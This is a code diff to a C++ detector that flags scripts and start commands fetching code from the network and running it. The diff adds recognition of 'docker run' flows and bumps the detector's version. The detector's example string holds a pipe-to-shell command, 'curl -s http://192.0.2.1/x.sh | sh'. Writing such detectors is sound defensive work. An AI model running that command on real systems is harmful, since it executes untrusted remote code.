@@ -34,6 +34,12 @@ std::string source_of(const ShellFlow& flow) {
   return "a computed address";
 }
 
+// "docker run IMAGE": the program is another image's. The use of the engine is what H01 speaks of.
+bool runs_container(const ShellFlow& flow) {
+  return flow.kind == FlowKind::fetch_to_file_run && flow.interpreter.empty() && !flow.urls.empty() &&
+         flow.urls.front() == flow.path;
+}
+
 // What the container serves to itself is in the image.
 bool only_from_itself(const ShellFlow& flow) {
   if (flow.urls.empty()) return is_loopback(flow.host);
@@ -47,8 +53,7 @@ std::string describe(const ShellFlow& flow) {
   switch (flow.kind) {
     case FlowKind::fetch_to_interpreter: return from + " | " + flow.interpreter;
     case FlowKind::fetch_to_file_run:
-      if (flow.interpreter.empty() && !flow.urls.empty() && flow.urls.front() == flow.path)
-        return flow.tool + " runs " + flow.path + ", which is not part of this image";
+      if (runs_container(flow)) return flow.tool + " runs " + flow.path + ", which is not part of this image";
       return from + " to " + flow.path + ", then run" + with + (flow.verified ? ", checked before" : "");
     default: return from + " to " + flow.path;
   }
@@ -65,6 +70,7 @@ class FetchToShell final : public Detector {
       if (flow.verified || only_from_itself(flow)) cls = weaker(cls);
       Evidence evidence = shell_evidence(*row, unit, flow.line, describe(flow), cls);
       if (runs) evidence.values.emplace_back(k_payload_key, k_payload_absent);
+      if (runs_container(flow)) evidence.values.emplace_back(k_family_key, "H");
       if (!flow.urls.empty()) evidence.values.emplace_back("url", flow.urls.front());
       if (!flow.path.empty()) evidence.values.emplace_back("target", flow.path);
       out.add(std::move(evidence));
@@ -84,7 +90,7 @@ class FetchToShell final : public Detector {
 
 const util::Registered<FetchToShell> registered{{
     .id = "fetch-to-shell",
-    .version = 2,
+    .version = 3,
     .summary = "code fetched and run by scripts and start commands",
     .example = "curl -s http://192.0.2.1/x.sh | sh",
     .rules = k_rows,
